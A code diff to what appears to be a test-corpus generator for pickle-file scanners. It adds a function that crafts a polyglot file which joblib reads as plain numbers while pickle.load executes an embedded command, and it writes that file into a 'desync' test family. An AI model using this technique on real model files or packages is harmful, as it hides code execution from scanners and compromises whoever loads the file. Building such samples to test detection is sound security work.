@@ -228,6 +228,13 @@ def _desync_files(cmd: str) -> dict[str, bytes]:
     return files
 
 
+def _polyglot(cmd: str) -> bytes:
+    """joblib.load reads uint8 numbers where pickle.load reads opcodes that run ``cmd`` (no padding byte)."""
+    hidden = payload_ops(cmd) + b"."  # what pickle.load executes, then stops
+    body = b"](" + wrapper_ops(b"J" + struct.pack("<i", len(hidden)) + b"\x85", dtype_ops("u1", None), alignment=False)
+    return b"\x80\x04" + body + hidden + b"e."
+
+
 def _saves(name: str, obj: Any) -> dict[str, Callable[[Path], None]]:
     out: dict[str, Callable[[Path], None]] = {}
     for proto in (2, 3, 4, 5):
@@ -260,6 +267,8 @@ def build(directory: Path, canary: Path, listener: tuple[str, int]) -> dict[str,
         for fname, content in variants.items():
             (directory / fname).write_bytes(content)
             families["desync"][fname] = directory / fname
+    (directory / "numbers_for_joblib_code_for_pickle.pkl").write_bytes(_polyglot(cmd))
+    families["desync"]["numbers_for_joblib_code_for_pickle.pkl"] = directory / "numbers_for_joblib_code_for_pickle.pkl"
     for family, objects in (("side_effect", _side_effect_objects(listener)), ("memory", _memory_objects())):
         for name, obj in objects.items():
             for fname, save in _saves(name, obj).items():
